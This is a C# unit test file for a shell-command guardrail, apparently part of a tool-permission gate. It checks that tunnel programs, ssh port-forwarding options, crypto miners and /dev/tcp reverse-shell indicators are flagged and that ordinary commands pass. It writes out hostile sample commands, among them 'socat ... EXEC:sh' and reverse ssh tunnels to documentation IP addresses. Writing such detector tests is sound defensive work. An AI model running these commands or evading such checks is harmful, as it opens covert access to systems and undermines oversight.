using ToolGate.Core.Shell;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Shell;

public class ShellGuardrailsTests
{
    [Theory]
    [InlineData("autossh -M 0 -N -R 9000:127.0.0.1:22 ops@203.0.113.9", "shell.tunnel", "'autossh' is a known tunnel program")]
    [InlineData("ngrok tcp 22", "shell.tunnel", "'ngrok' is a known tunnel program")]
    [InlineData("socat TCP:198.51.100.7:443 EXEC:sh", "shell.tunnel", "'socat' is a known tunnel program")]
    [InlineData("nc -lvp 9001", "shell.tunnel", "'nc' is a known tunnel program")]
    [InlineData("/usr/bin/ncat 198.51.100.7 443", "shell.tunnel", "'ncat' is a known tunnel program")]
    [InlineData("cloudflared tunnel run", "shell.tunnel", "'cloudflared' is a known tunnel program")]
    [InlineData("NGROK http 80", "shell.tunnel", "'NGROK' is a known tunnel program")]
    [InlineData("xmrig -o pool:3333", "shell.miner", "'xmrig' is a known miner program")]
    [InlineData("./t-rex -a kawpow", "shell.miner", "'t-rex' is a known miner program")]
    public void Check_KnownProgram_IsNamedWithItsClass(string command, string name, string reason)
    {
        Assert.Equal((name, reason), Check(command));
    }

    [Theory]
    [InlineData("ssh -R 9000:127.0.0.1:22 a@198.51.100.7", "'ssh -R' opens a tunnel or port forward")]
    [InlineData("/usr/bin/ssh -R 9000:127.0.0.1:22 a@198.51.100.7", "'ssh -R' opens a tunnel or port forward")]
    [InlineData("ssh -NfR 9000:localhost:22 a@198.51.100.7", "'ssh -NfR' opens a tunnel or port forward")]
    [InlineData("ssh -L 5432:db.internal:5432 a@198.51.100.7", "'ssh -L' opens a tunnel or port forward")]
    [InlineData("ssh -D 1080 a@198.51.100.7", "'ssh -D' opens a tunnel or port forward")]
    [InlineData("ssh -w 0:0 root@198.51.100.7", "'ssh -w' opens a tunnel or port forward")]
    [InlineData("ssh -o 'ProxyCommand=nc 198.51.100.7 22' a@h", "'ssh -o ProxyCommand=nc 198.51.100.7 22' opens a tunnel or port forward")]
    [InlineData("ssh -oProxyCommand=sh a@h", "'ssh -o ProxyCommand=sh' opens a tunnel or port forward")]
    [InlineData("ssh -o LocalForward=8080:db:5432 a@h", "'ssh -o LocalForward=8080:db:5432' opens a tunnel or port forward")]
    [InlineData("ssh -o 'RemoteForward 9000 localhost:22' a@h", "'ssh -o RemoteForward 9000 localhost:22' opens a tunnel or port forward")]
    [InlineData("ssh -o Tunnel=yes a@h", "'ssh -o Tunnel=yes' opens a tunnel or port forward")]
    [InlineData("ssh -o PermitLocalCommand=yes a@h", "'ssh -o PermitLocalCommand=yes' opens a tunnel or port forward")]
    [InlineData("plink -R 9000:localhost:22 a@h", "'plink -R' opens a tunnel or port forward")]
    public void Check_SecureShellForwardingOption_IsATunnel(string command, string reason)
    {
        Assert.Equal(("shell.tunnel", reason), Check(command));
    }

    [Fact]
    public void Check_ForwardingOptionBundledAfterAnotherFlag_IsATunnel()
    {
        Assert.Equal("shell.tunnel", Check("ssh -No ProxyCommand=sh a@198.51.100.7")?.Name);
        Assert.Equal("shell.tunnel", Check("ssh -NoProxyCommand=sh a@198.51.100.7")?.Name);
        Assert.Equal("shell.tunnel", Check("ssh -qo LocalForward=8080:db:5432 a@198.51.100.7")?.Name);
    }

    [Theory]
    [InlineData("./miner --url stratum+tcp://pool.example:3333", "shell.miner", "argument contains 'stratum+tcp://'")]
    [InlineData("./miner -o STRATUM+SSL://pool.example:3333", "shell.miner", "argument contains 'stratum+ssl://'")]
    [InlineData("curl stratum2+tcp://pool.example:3333", "shell.miner", "argument contains 'stratum2+tcp://'")]
    [InlineData("cat /dev/tcp/198.51.100.7/80", "shell.reverse-shell", "argument contains '/dev/tcp/'")]
    [InlineData("head -c 1 /dev/udp/198.51.100.7/53", "shell.reverse-shell", "argument contains '/dev/udp/'")]
    public void Check_ArgumentIndicator_IsNamed(string command, string name, string reason)
    {
        Assert.Equal((name, reason), Check(command));
    }

    [Theory]
    [InlineData("git log --oneline")]
    [InlineData("grep -rn TODO src/")]
    [InlineData("ssh a@bastion.example.com uptime")]
    [InlineData("ssh -p 2222 -i key -v a@bastion.example.com")]
    [InlineData("ssh -o StrictHostKeyChecking=no a@bastion.example.com")]
    [InlineData("grep -R x .")]
    [InlineData("ncdu /srv/project")]
    public void Check_OrdinaryCommand_PassesGuardrails(string command)
    {
        Assert.Null(Check(command));
    }

    // Guardrails come from the shipped data file and win over any grant: judge under a grant for everything.
    private static (string Name, string Reason)? Check(string command)
    {
        var tokens = ShellTokenizer.Tokenize(command);
        Assert.True(tokens.IsValid, tokens.Error);
        var policy = ShellPolicy.Compile([TestGrants.Shell("everything", [$"{tokens.Words[0]} *"])]);
        var verdict = ShellEvaluator.Decide(new ToolGate.Core.Actions.ShellAction(command, "/"), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
        return verdict.Rule.StartsWith("guardrail:", StringComparison.Ordinal)
            ? (verdict.Rule["guardrail:".Length..], verdict.Reason)
            : null;
    }
}
